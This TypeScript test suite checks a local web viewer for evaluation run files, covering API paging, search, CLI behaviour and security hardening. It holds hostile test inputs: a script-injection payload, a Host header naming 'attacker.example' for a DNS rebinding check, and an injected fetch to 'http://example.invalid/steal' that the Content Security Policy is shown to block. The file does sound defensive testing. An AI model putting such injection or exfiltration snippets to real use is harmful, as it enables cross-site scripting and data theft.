import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startView, type RunningView } from '../../src/report/view/server.ts';
import { launchBrowser, screenshot, waitUntil, watch } from '../support/browser.ts';
import { BIN } from '../support/cli.ts';
import { HOSTILE, reportModels, writeReportRun } from '../support/reportRun.ts';
import { formatOneRun } from '../store/helpers.ts';

let browser: Browser;
let dir: string;
let file: string;
let view: RunningView;
let fingerprint: string;

const sha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pollux-view-'));
  file = join(dir, 'hostile.sqlite');
  writeReportRun({ file, samples: 90, hostile: true });
  fingerprint = sha(file);
  browser = await launchBrowser();
  view = await startView([file], { host: '127.0.0.1', port: 0, lang: 'en', resamples: 50 });
});
after(async () => {
  await view?.close();
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function api<T>(path: string): Promise<{ status: number; body: T; headers: Headers }> {
  const res = await fetch(new URL(path, view.url));
  return { status: res.status, body: (await res.json()) as T, headers: res.headers };
}

test('the JSON API pages, filters and searches judgments from the run file', async () => {
  const all = await api<{ total: number; more: boolean; rows: Array<{ id: string; status: string; model: number; modelName: string }> }>('/api/judgments?page=1');
  assert.equal(all.status, 200);
  assert.equal(all.body.rows.length, 50);
  assert.equal(all.body.more, true);
  // Names come with the page's rows, whether or not the filter lists are known yet.
  assert.ok(all.body.rows.every((r) => reportModels(true).includes(r.modelName)));
  assert.match(all.headers.get('content-security-policy') ?? '', /default-src 'none'/);
  assert.deepEqual((await api<{ total: number }>('/api/count')).body, { total: 270 });
  const last = await api<{ more: boolean; rows: unknown[] }>('/api/judgments?page=5');
  assert.deepEqual([last.body.more, last.body.rows.length], [false, 20]);

  const dict = (await api<{ models: string[]; criteria: Array<{ key: string }> }>('/api/dict')).body;
  assert.deepEqual([...dict.models].sort(), [...reportModels(true)].sort());
  assert.equal((await api<{ total: number }>('/api/judgments?page=1')).body.total, 270);
  const errors = await api<{ total: number; rows: Array<{ status: string; reason: string }> }>('/api/judgments?kind=problems&status=error');
  const errorCount = (await api<{ total: number }>('/api/count?kind=problems&status=error')).body.total;
  assert.ok(errorCount > 0 && errors.body.rows.length === Math.min(50, errorCount));
  assert.ok(errors.body.rows.every((r) => r.status === 'error' && r.reason === `fatal: HTTP 400 ${HOSTILE.script}`));

  // Search is case-insensitive in Cyrillic too, and covers the answers.
  const found = await api<{ total: null; rows: Array<{ id: string }> }>(`/api/judgments?q=${encodeURIComponent('ОТВЕТ 7:')}`);
  assert.equal(found.body.total, null);
  assert.equal(found.body.rows.length, 3);
  const detail = await api<{ answer: string; texts: boolean }>(`/api/judgments/${found.body.rows[0]?.id}`);
  assert.equal(detail.body.texts, true);
  assert.match(detail.body.answer, /^Ответ 7: весна пришла\./);

  const gaps = (await api<{ rows: Array<{ score: number; human: number }> }>('/api/judgments?kind=disagreements')).body.rows.map((r) => Math.abs(r.score - r.human));
  assert.deepEqual(gaps, [...gaps].sort((a, b) => b - a));
  assert.equal((await api('/api/judgments/0:999999')).status, 404);
  assert.equal((await api('/api/judgments?model=99')).status, 400);
  const post = await fetch(new URL('/api/judgments', view.url), { method: 'POST' });
  assert.equal(post.status, 404);
  await view.summary;
  const summary = await api<{ score: { leaderboard: unknown[] } }>('/api/summary');
  assert.equal(summary.status, 200);
  assert.equal(summary.body.score.leaderboard.length, 3);
});

test('on loopback, a request addressed to another host name is refused (DNS rebinding)', async () => {
  const status = await new Promise<number>((resolve, reject) => {
    const req = request(new URL('/api/dict', view.url), { headers: { host: 'attacker.example' } }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end();
  });
  assert.equal(status, 403);
});

test('in the browser: overview, a disagreement with its texts, filters, search and paging; nothing hostile runs, nothing leaves the host', async () => {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const seen = await watch(page);
  const response = await page.goto(view.url);
  const csp = response?.headers()['content-security-policy'] ?? '';
  assert.match(csp, /script-src 'nonce-[^']+'(;|$)/);
  assert.doesNotMatch(csp, /unsafe-inline'[^;]*;?\s*$|script-src[^;]*unsafe/);
  assert.match(csp, /connect-src 'self'/);
  await page.waitForSelector('body[data-ready="overview"]');
  await page.locator('#leaderboard').waitFor();
  assert.deepEqual((await page.locator('#leaderboard tbody tr td:nth-child(2)').allTextContents()).sort(), [...reportModels(true)].sort());
  await screenshot(page, 'view-overview');

  await page.click('#tab-disagreements');
  await page.waitForSelector('body[data-ready="disagreements"]');
  await page.click('#table-disagreements tbody tr:first-child button.open');
  const dialog = page.locator('dialog#detail[open]');
  await dialog.waitFor();
  assert.match(await dialog.locator('.answer pre').textContent() ?? '', /<script>window\.__pwned = "script"<\/script>/);
  assert.match(await dialog.locator('.criterion-name').textContent() ?? '', /.+/);
  await screenshot(page, 'view-disagreement');
  await page.click('#detail-close');

  await page.click('#tab-judgments');
  await page.waitForSelector('body[data-ready="judgments"]');
  assert.equal(await page.locator('#page-info').textContent(), 'Page 1 of 6 (270 rows)');
  await page.click('#next');
  await page.locator('#page-info', { hasText: 'Page 2 of 6 (270 rows)' }).waitFor();
  await page.selectOption('#filter-status', 'unscored');
  await waitUntil(async () => /^Page 1 of \d+ \(\d+ rows\)$/.test((await page.locator('#page-info').textContent()) ?? '') && (await page.locator('#table-all tbody tr').count()) > 0);
  const statuses = await page.locator('#table-all tbody tr td:nth-child(4)').allTextContents();
  assert.ok(statuses.length > 0 && statuses.every((s) => s === 'unscored'), statuses.join('|'));
  await page.selectOption('#filter-status', { label: 'all' });
  await page.fill('#search', 'ответ 12:');
  await page.press('#search', 'Enter');
  await waitUntil(async () => (await page.locator('#table-all tbody tr').count()) === 3);
  await screenshot(page, 'view-search');

  // The policy itself: an inline script added to the page does not run, and a request to another host is blocked.
  const outcome = await page.evaluate(`(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "injected"';
    document.body.append(s);
    try { await fetch('http://example.invalid/steal'); return 'fetched'; } catch { return 'blocked'; }
  })()`);
  assert.equal(outcome, 'blocked');
  assert.equal(await seen.pwned(), undefined);
  const violations = await seen.violations();
  assert.ok(violations.some((v) => v.startsWith('script-src')), violations.join('|'));
  assert.ok(violations.some((v) => v.startsWith('connect-src')), violations.join('|'));
  assert.deepEqual(seen.requests.filter((u) => !u.startsWith(view.url)), [], 'no request leaves the viewer');
  assert.deepEqual([seen.dialogs, seen.errors], [[], []]);
  await page.close();
});

test('the viewer never writes the run file', () => {
  assert.equal(sha(file), fingerprint);
  assert.deepEqual(readdirSync(dir).sort(), ['hostile.sqlite']);
  assert.ok(statSync(file).size > 0);
});

test('pollux view: prints its address, warns about a non-loopback --host, stops on SIGINT with exit 0', async () => {
  const child = spawn(process.execPath, [BIN, 'view', file, '--port', '0', '--host', '0.0.0.0', '--bootstrap', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
  let stderr = '';
  child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  for (let i = 0; i < 600 && !/at http:\/\/0\.0\.0\.0:\d+\//.test(stderr); i++) await new Promise((r) => setTimeout(r, 50));
  const port = /at http:\/\/0\.0\.0\.0:(\d+)\//.exec(stderr)?.[1];
  assert.ok(port, stderr);
  assert.match(stderr, /warning: listening on 0\.0\.0\.0: anyone who can reach it can read every text/);
  const res = await fetch(`http://127.0.0.1:${port}/api/dict`);
  assert.equal(res.status, 200);
  child.kill('SIGINT');
  assert.equal(await exited, 0);
  const bad = spawn(process.execPath, [BIN, 'view', join(dir, 'missing.sqlite')], { stdio: ['ignore', 'pipe', 'pipe'] });
  let badErr = '';
  bad.stderr.setEncoding('utf8').on('data', (d: string) => (badErr += d));
  assert.equal(await new Promise((resolve) => bad.on('exit', resolve)), 2);
  assert.match(badErr, /missing\.sqlite: no such run file/);
});

test('a run file from before texts were kept is served, with its texts reported absent', async () => {
  const old = join(dir, 'old', 'old.sqlite');
  mkdirSync(join(dir, 'old'));
  formatOneRun(old, 9);
  const oldView = await startView([old], { host: '127.0.0.1', port: 0, lang: 'ru', resamples: 0 });
  try {
    const get = async (path: string) => (await fetch(new URL(path, oldView.url))).json() as Promise<Record<string, unknown>>;
    const dict = await get('/api/dict');
    assert.deepEqual((dict.runs as Array<{ requests: number; requestsWithTexts: number }>).map((r) => [r.requests, r.requestsWithTexts]), [[9, 0]]);
    const page = (await get('/api/judgments?q=gpt')) as { rows: Array<{ id: string }> };
    assert.ok(page.rows.length > 0);
    const detail = await get(`/api/judgments/${page.rows[0]?.id}`);
    assert.deepEqual([detail.texts, detail.answer], [false, null]);
    await oldView.summary;
  } finally {
    await oldView.close();
  }
});
